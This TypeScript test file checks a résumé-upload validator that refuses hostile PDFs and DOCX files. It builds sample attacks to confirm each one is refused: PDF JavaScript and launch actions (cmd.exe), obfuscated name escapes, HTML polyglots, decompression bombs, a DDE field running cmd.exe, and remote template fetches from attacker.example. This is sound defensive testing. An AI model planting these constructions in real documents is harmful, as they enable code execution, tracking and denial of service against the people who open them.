// What résumeKind accepts, and why it refuses the rest: PDFs made here with
// pdf-lib, then given what a hostile file carries (JavaScript, launch actions,
// embedded files, XFA, encryption, a second file format, a parser trap).
import { deflateSync } from 'node:zlib'
import { PDFDocument, PDFName, PDFString, type PDFObject } from 'pdf-lib'
import { describe, expect, it, vi } from 'vitest'
import { resumeKind } from '../../src/server/resume'
import { docm, docx, docxWithMacros, exe, pdf, rels, zip, zipBomb } from './files'

/** A one-page PDF from pdf-lib, changed by `edit` before it is saved. */
async function makePdf(
  edit?: (doc: PDFDocument) => void | Promise<void>,
  { pages = 1, useObjectStreams = true } = {},
): Promise<Buffer> {
  const doc = await PDFDocument.create()
  for (let i = 0; i < pages; i++) doc.addPage().drawText('Curriculum vitae of a candidate', { x: 72, y: 720 })
  await edit?.(doc)
  return Buffer.from(await doc.save({ useObjectStreams, addDefaultPage: false }))
}

/** A PDF's text with `from` replaced (once) by `to`: for what pdf-lib will not write. */
const rewrite = (bytes: Buffer, from: string | RegExp, to: string) => {
  const text = bytes.toString('latin1')
  const changed = text.replace(from, to)
  expect(changed, `${from} not found`).not.toBe(text)
  return Buffer.from(changed, 'latin1')
}

const javaScript = (doc: PDFDocument) => doc.context.obj({ S: 'JavaScript', JS: PDFString.of('app.alert(1)') })

const refused = (reason: string) => ({ ok: false, reason })

describe('resumeKind', () => {
  it('accepts a real PDF (with or without object streams, or written by hand) and a plain DOCX', async () => {
    expect(await resumeKind(await makePdf())).toEqual({ ok: true, kind: 'pdf' })
    expect(await resumeKind(await makePdf(undefined, { pages: 3, useObjectStreams: false }))).toEqual({
      ok: true,
      kind: 'pdf',
    })
    expect(await resumeKind(pdf())).toEqual({ ok: true, kind: 'pdf' })
    expect(await resumeKind(docx())).toEqual({ ok: true, kind: 'docx' })
  })

  it('refuses what only looks like a PDF at its two ends', async () => {
    expect(await resumeKind(Buffer.from('%PDF-1.4\n%%EOF', 'latin1'))).toEqual(refused('PDF: no catalog'))
    // An executable between a PDF header and end marker (what the old check accepted).
    const wrapped = Buffer.concat([Buffer.from('%PDF-1.4\n'), exe(), Buffer.from('\n%%EOF\n')])
    expect(await resumeKind(wrapped)).toEqual(refused('PDF: no catalog'))
    expect(await resumeKind(await makePdf(undefined, { pages: 0 }))).toEqual(refused('PDF: no page'))
  })

  it('refuses a polyglot: HTML in its first KiB, bytes before its header, a file appended after its end', async () => {
    const real = await makePdf()
    const html = rewrite(real, /^%PDF-1\.7\n/, '%PDF-1.7\n%<html><body><script>alert(document.cookie)</script>\n')
    expect(await resumeKind(html)).toEqual(refused('PDF: HTML markup at its start (a polyglot)'))
    const svg = rewrite(real, /^%PDF-1\.7\n/, '%PDF-1.7\n%<svg onload="alert(1)">\n')
    expect(await resumeKind(svg)).toEqual(refused('PDF: HTML markup at its start (a polyglot)'))
    const before = Buffer.concat([Buffer.from('<!doctype html><p>hello</p>\n'), real])
    expect(await resumeKind(before)).toEqual(refused('PDF: bytes before its header (a polyglot)'))
    const appended = Buffer.concat([real, docx().subarray(0, 500)])
    expect(await resumeKind(appended)).toEqual(refused('PDF: data after its end (a polyglot)'))
  })

  it('refuses JavaScript wherever it is: opening action, page and annotation actions, escaped names, unused objects', async () => {
    const cases = [
      await makePdf((doc) => doc.catalog.set(PDFName.of('OpenAction'), javaScript(doc))),
      await makePdf((doc) => doc.getPage(0).node.set(PDFName.of('AA'), doc.context.obj({ O: javaScript(doc) }))),
      await makePdf((doc) => {
        const link = doc.context.obj({ Type: 'Annot', Subtype: 'Link', Rect: [0, 0, 100, 100], A: javaScript(doc) })
        doc.getPage(0).node.set(PDFName.of('Annots'), doc.context.obj([doc.context.register(link)]))
      }),
      // Named JavaScript in the document's name tree.
      await makePdf((doc) => {
        const names = doc.context.obj({ Names: [PDFString.of('init'), doc.context.register(javaScript(doc))] })
        doc.catalog.set(PDFName.of('Names'), doc.context.obj({ JavaScript: names }))
      }),
      // /#4aava#53cript is /JavaScript to a reader; pdf-lib decodes only upper-case escapes.
      rewrite(
        await makePdf((doc) => doc.catalog.set(PDFName.of('OpenAction'), doc.context.obj({ S: 'Placeholder' })), {
          useObjectStreams: false,
        }),
        '/Placeholder',
        '/#4aava#53cript',
      ),
      // Referenced by nothing, inside an object stream.
      await makePdf((doc) => void doc.context.register(javaScript(doc))),
      // An older object 1 that pdf-lib's last-one-wins reading would drop, where a reader's xref may point.
      rewrite(
        await makePdf(undefined, { useObjectStreams: false }),
        /\n1 0 obj\n/,
        '\n1 0 obj\n<< /S /JavaScript /JS (app.alert\\(1\\)) >>\nendobj\n1 0 obj\n',
      ),
    ]
    for (const [i, bytes] of cases.entries())
      expect(await resumeKind(bytes), `case ${i}`).toEqual(refused('PDF: JavaScript'))
  })

  it('refuses launch actions, embedded files, file attachments, XFA forms', async () => {
    const launch = await makePdf((doc) =>
      doc.catalog.set(PDFName.of('OpenAction'), doc.context.obj({ S: 'Launch', F: PDFString.of('cmd.exe') })),
    )
    expect(await resumeKind(launch)).toEqual(refused('PDF: a launch action'))
    const attached = await makePdf((doc) => doc.attach(Buffer.from('MZ payload'), 'invoice.exe'))
    expect(await resumeKind(attached)).toEqual(refused('PDF: an embedded file'))
    const annotation = await makePdf((doc) => {
      const attachment = doc.context.obj({
        Type: 'Annot',
        Subtype: 'FileAttachment',
        Rect: [0, 0, 20, 20],
        FS: PDFString.of('invoice.exe'),
      })
      doc.getPage(0).node.set(PDFName.of('Annots'), doc.context.obj([doc.context.register(attachment)]))
    })
    expect(await resumeKind(annotation)).toEqual(refused('PDF: a file attachment'))
    const xfa = await makePdf((doc) =>
      doc.catalog.set(PDFName.of('AcroForm'), doc.context.obj({ Fields: [], XFA: PDFString.of('<xdp:xdp/>') })),
    )
    expect(await resumeKind(xfa)).toEqual(refused('PDF: an XFA form'))
  })

  it('refuses an encrypted PDF, however its trailer spells /Encrypt', async () => {
    const encryption = '/Encrypt << /Filter /Standard /V 1 /R 2 /O <00> /U <00> /P -4 >>'
    const trailer = rewrite(
      await makePdf(undefined, { useObjectStreams: false }),
      /trailer\s*<</,
      `trailer\n<<\n${encryption}\n`,
    )
    expect(await resumeKind(trailer)).toEqual(refused('PDF: encrypted'))
    // In a cross-reference stream's dictionary, escaped: pdf-lib would see neither.
    const xrefStream = rewrite(await makePdf(), '/Type /XRef', '/Type /XRef /E#6ecrypt 99 0 R')
    expect(await resumeKind(xrefStream)).toEqual(refused('PDF: encrypted'))
  })

  it('refuses what would make the parser slow or huge, quickly', async () => {
    // An object stream that inflates to 64 MB from a few dozen KB.
    const bomb = deflateSync(Buffer.alloc(64 * 1024 * 1024, 32))
    const inflating = Buffer.concat([
      Buffer.from(
        `%PDF-1.7\n1 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length ${bomb.length} >>\nstream\n`,
      ),
      bomb,
      Buffer.from('\nendstream\nendobj\n%%EOF\n'),
    ])
    expect(await resumeKind(inflating)).toEqual(refused('PDF: object streams inflating to more than 32 MB'))

    // 2 MB of filler: pdf-lib alone spends several seconds per MB, throwing an exception per byte.
    const real = await makePdf(undefined, { useObjectStreams: false })
    const filler = Buffer.concat([real.subarray(0, 9), Buffer.alloc(2 * 1024 * 1024, 'a'), real.subarray(9)])
    const started = performance.now()
    expect(await resumeKind(filler)).toEqual(refused('PDF: too much filler between its objects'))
    expect(performance.now() - started).toBeLessThan(5_000)

    const objects = Array.from({ length: 60_000 }, (_, i) => `${i + 1} 0 obj\n[${i}]\nendobj\n`).join('')
    const many = Buffer.from(`%PDF-1.4\n${objects}%%EOF\n`, 'latin1')
    expect(await resumeKind(many)).toEqual(refused('PDF: more than 50000 objects'))
  })

  it('refuses actions a reader runs without a click, beyond going to a page; a clicked web link is fine', async () => {
    const action = (doc: PDFDocument, S: string, extra: Record<string, PDFObject> = {}) =>
      doc.context.obj({ S, ...extra })
    const onOpen = (S: string, extra: (doc: PDFDocument) => Record<string, PDFObject> = () => ({})) =>
      makePdf((doc) => doc.catalog.set(PDFName.of('OpenAction'), action(doc, S, extra(doc))))
    const url = () => ({ URI: PDFString.of('https://tracker.example/open') })
    const file = () => ({ F: PDFString.of('\\\\attacker\\share\\x.pdf') })
    expect(await resumeKind(await onOpen('URI', url))).toEqual(refused('PDF: an action run without a click (URI)'))
    expect(await resumeKind(await onOpen('SubmitForm', url))).toEqual(refused('PDF: a form submission'))
    expect(await resumeKind(await onOpen('ImportData', file))).toEqual(refused('PDF: a data import'))
    expect(await resumeKind(await onOpen('GoToE'))).toEqual(refused('PDF: an action that opens an embedded file'))
    expect(await resumeKind(await onOpen('GoToR', file))).toEqual(refused('PDF: an action that opens another file'))
    // A page's additional action (on opening the page), chained after a harmless one.
    const chained = await makePdf((doc) => {
      const go = action(doc, 'GoTo', {
        D: doc.context.obj([doc.getPage(0).ref, 'Fit']),
        Next: action(doc, 'URI', url()),
      })
      doc.getPage(0).node.set(PDFName.of('AA'), doc.context.obj({ O: go }))
    })
    expect(await resumeKind(chained)).toEqual(refused('PDF: an action run without a click (URI)'))

    // What a résumé does carry: a link to a profile, clicked; opening at the first page.
    const fine = await makePdf((doc) => {
      const link = doc.context.obj({
        Type: 'Annot',
        Subtype: 'Link',
        Rect: [72, 700, 300, 720],
        A: action(doc, 'URI', { URI: PDFString.of('https://www.linkedin.com/in/candidate') }),
      })
      doc.getPage(0).node.set(PDFName.of('Annots'), doc.context.obj([doc.context.register(link)]))
      doc.catalog.set(PDFName.of('OpenAction'), doc.context.obj([doc.getPage(0).ref, 'Fit']))
    })
    expect(await resumeKind(fine)).toEqual({ ok: true, kind: 'pdf' })
    const goTo = await onOpen('GoTo', (doc) => ({ D: doc.context.obj([doc.getPage(0).ref, 'Fit']) }))
    expect(await resumeKind(goTo)).toEqual({ ok: true, kind: 'pdf' })
  })

  it('bounds what the streams inflate to, all together, by bytes: Flate and run-length bombs, LZW', async () => {
    const withStream = (contents: Buffer, Filter: string | string[]) =>
      makePdf((doc) => {
        const stream = doc.context.stream(contents, { Filter })
        doc.getPage(0).node.set(PDFName.of('Contents'), doc.context.register(stream))
      })
    // A content stream of about 100 KB that inflates to 100 MB (the budget is 96 MB).
    const deflated = deflateSync(Buffer.alloc(100 * 1024 * 1024))
    expect(deflated.length).toBeLessThan(200 * 1024)
    const bomb = await withStream(deflated, 'FlateDecode')
    const tooBig = refused('PDF: streams inflating to more than 96 MB')
    expect(await resumeKind(bomb)).toEqual(tooBig)
    // Many small ones add up the same.
    const part = deflateSync(Buffer.alloc(8 * 1024 * 1024))
    const many = await makePdf((doc) => {
      for (let i = 0; i < 13; i++) doc.context.register(doc.context.stream(part, { Filter: 'FlateDecode' }))
    })
    expect(await resumeKind(many)).toEqual(tooBig)
    // Run-length: each pair of bytes (129, x) is 128 bytes.
    const runs = Buffer.alloc(2 * 800_000, 0).fill(Buffer.from([129, 32]))
    expect(await resumeKind(await withStream(runs, 'RunLengthDecode'))).toEqual(tooBig)
    expect(await resumeKind(await withStream(Buffer.from('x'), 'LZWDecode'))).toEqual(
      refused('PDF: an LZW-compressed stream'),
    )
    // A real page's stream, deflated, passes.
    const page = deflateSync(Buffer.from('BT /F1 12 Tf 72 720 Td (Curriculum vitae) Tj ET'))
    expect(await resumeKind(await withStream(page, 'FlateDecode'))).toEqual({ ok: true, kind: 'pdf' })
  })

  it('accepts a fine PDF of 10,000 objects however busy the machine is: work is bounded by bytes, not time', async () => {
    const big = await makePdf(
      (doc) => {
        for (let i = 0; i < 10_000; i++) doc.context.register(doc.context.obj([i, PDFString.of('entry')]))
      },
      { useObjectStreams: false },
    )
    // Every reading of the clock a second later than the last: a very busy machine.
    let now = 0
    const clock = vi.spyOn(performance, 'now').mockImplementation(() => (now += 1000))
    const dateClock = vi.spyOn(Date, 'now').mockImplementation(() => (now += 1000))
    try {
      expect(await resumeKind(big)).toEqual({ ok: true, kind: 'pdf' })
    } finally {
      clock.mockRestore()
      dateClock.mockRestore()
    }
  })

  it('refuses a DOCX with active or foreign content: embedded objects, ActiveX, altChunk', async () => {
    const ole = docx([{ name: 'word/embeddings/oleObject1.bin', data: Buffer.from('\xd0\xcf\x11\xe0', 'latin1') }])
    expect(await resumeKind(ole)).toEqual(refused('DOCX: an embedded object'))
    const workbook = docx([{ name: 'word/embeddings/Microsoft_Excel_Worksheet.xlsx', data: Buffer.from('PK') }])
    expect(await resumeKind(workbook)).toEqual(refused('DOCX: an embedded object'))
    const activeX = docx([{ name: 'word/activeX/activeX1.xml', data: Buffer.from('<ax:ocx/>') }])
    expect(await resumeKind(activeX)).toEqual(refused('DOCX: an ActiveX control'))
    const altChunk = docx([
      rels('word/_rels/document.xml.rels', { type: 'aFChunk', target: 'afchunk.mht' }),
      { name: 'word/afchunk.mht', data: Buffer.from('<html><script>alert(1)</script></html>') },
    ])
    expect(await resumeKind(altChunk)).toEqual(refused('DOCX: an altChunk (another document inside, e.g. HTML)'))
    const linkedOle = docx([
      rels('word/_rels/document.xml.rels', { type: 'oleObject', target: 'https://x.example/a.xls', external: true }),
    ])
    expect(await resumeKind(linkedOle)).toEqual(refused('DOCX: an embedded object'))
  })

  it('refuses a DOCX that reaches outside itself on opening; hyperlinks and a local template are fine', async () => {
    const template = (target: string) =>
      docx([rels('word/_rels/settings.xml.rels', { type: 'attachedTemplate', target, external: true })])
    expect(await resumeKind(template('https://attacker.example/macros.dotm'))).toEqual(
      refused('DOCX: an external reference (attachedTemplate)'),
    )
    expect(await resumeKind(template('\\\\attacker.example\\share\\t.dotm'))).toEqual(
      refused('DOCX: an external reference (attachedTemplate)'),
    )
    const image = docx([
      rels('word/_rels/document.xml.rels', {
        type: 'image',
        target: 'http://tracker.example/pixel.png',
        external: true,
      }),
    ])
    expect(await resumeKind(image)).toEqual(refused('DOCX: an external reference (image)'))
    const frame = docx([
      rels('word/_rels/webSettings.xml.rels', { type: 'frame', target: 'http://x.example/', external: true }),
    ])
    expect(await resumeKind(frame)).toEqual(refused('DOCX: an external reference (frame)'))

    // Made from a template on the writer's own disk, with a link to a profile: a usual résumé.
    const usual = docx([
      rels('word/_rels/settings.xml.rels', {
        type: 'attachedTemplate',
        target: 'file:///C:\\Users\\asha\\AppData\\Roaming\\Microsoft\\Templates\\Resume.dotx',
        external: true,
      }),
      rels('word/_rels/document.xml.rels', {
        type: 'hyperlink',
        target: 'https://www.linkedin.com/in/candidate',
        external: true,
      }),
    ])
    expect(await resumeKind(usual)).toEqual({ ok: true, kind: 'docx' })
  })

  it('refuses a DOCX whose fields run a program or fetch content, even split over runs', async () => {
    const withBody = (body: string) =>
      docx([
        {
          name: 'word/header1.xml',
          data: Buffer.from(
            `<w:hdr xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">${body}</w:hdr>`,
          ),
        },
      ])
    const run = (text: string) => `<w:r><w:instrText xml:space="preserve">${text}</w:instrText></w:r>`
    const dde = withBody(`<w:p>${run(' DDE')}${run('AUTO c:\\windows\\system32\\cmd.exe "/k calc" ')}</w:p>`)
    expect(await resumeKind(dde)).toEqual(refused('DOCX: a DDE field (runs a program)'))
    const picture = withBody(
      `<w:p><w:fldSimple w:instr=" INCLUDEPICTURE &quot;http://tracker.example/p.png&quot; \\d "/></w:p>`,
    )
    expect(await resumeKind(picture)).toEqual(refused('DOCX: a field that fetches content (INCLUDEPICTURE)'))
    // Ordinary fields (a page number, a date) and the words in the text are fine.
    const ordinary = withBody(`<w:p>${run(' PAGE ')}<w:r><w:t>DDE and LINK in prose</w:t></w:r></w:p>`)
    expect(await resumeKind(ordinary)).toEqual({ ok: true, kind: 'docx' })
  })

  it('inflates no DOCX entry past what its directory declares', async () => {
    const understated = docx([
      { name: 'word/media/image1.png', data: Buffer.alloc(4 * 1024 * 1024), deflate: true, declaredSize: 1000 },
    ])
    expect(await resumeKind(understated)).toEqual(refused('DOCX: a zip bomb, inflating past its declaration'))
    const stored = zip([
      { name: '[Content_Types].xml', data: Buffer.from('wordprocessingml.document.main+xml') },
      { name: 'word/document.xml', data: Buffer.from('<w:document/>'), declaredSize: 3 },
    ])
    expect(await resumeKind(stored)).toEqual(refused('DOCX: word/document.xml is not its declared size'))
  })

  it('says why a DOCX is refused, and what is neither', async () => {
    expect(await resumeKind(docm())).toEqual(refused('DOCX: macros (a macro-enabled content type)'))
    expect(await resumeKind(docxWithMacros())).toEqual(refused('DOCX: macros'))
    expect(await resumeKind(zipBomb())).toEqual(refused('DOCX: a zip bomb, by its own declaration'))
    expect(await resumeKind(exe())).toEqual(refused('neither a PDF nor a DOCX'))
  })
})
